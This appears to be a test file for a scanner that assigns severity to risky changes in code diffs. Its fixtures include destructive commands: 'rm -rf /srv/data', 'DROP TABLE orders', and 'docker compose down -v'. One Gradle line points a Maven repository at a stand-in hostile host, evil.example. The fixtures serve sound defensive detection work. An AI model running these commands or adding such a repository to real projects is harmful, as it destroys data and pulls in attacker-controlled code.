/** What lowers a finding, and what does not. */
import assert from 'node:assert/strict';
import { findInChanges } from '../../src/danger';
import { TOOLS } from '../support/grammars';

const severities = async (path: string, after: string): Promise<readonly string[]> =>
  (await findInChanges([{ path, from: null, before: null, after }], TOOLS)).map(({ severity }) => severity);

describe('the weight of a finding', () => {
  const drop = 'DROP TABLE orders;\n';

  it('a script that takes down by its name: is low, and a migration of such a name is not', async () => {
    assert.deepEqual(await severities('deploy/uninstall.sh', 'rm -rf /srv/data\n'), ['low']);
    for (const name of ['20260101_cleanup_orders.sql', 'V12__legacy_cleanup.sql', 'cleanup.sql'])
      assert.deepEqual(await severities(`db/migrations/${name}`, drop), ['critical'], name);
  });

  it('a script of SQL that makes the table again: is found when its name sets nothing up', async () => {
    const again = `${drop}CREATE TABLE orders (id int);\n`;
    assert.deepEqual(await severities('ops/refresh.sql', again), ['critical']);
    assert.deepEqual(await severities('db/setup.sql', again), []);
  });

  it('the volumes of a stack: keep their severity when a script removes them, and are low in a developer file', async () => {
    assert.deepEqual(await severities('scripts/deploy.sh', 'docker compose down -v\n'), ['high']);
    assert.deepEqual(await severities('scripts/dev.sh', 'docker compose down -v\n'), ['low']);
  });

  it('a repository of Gradle: is found when it stands in one line', async () => {
    assert.equal(
      (await severities('build.gradle', 'repositories { maven { url "https://evil.example/repo" } }\n')).length,
      1,
    );
  });
});
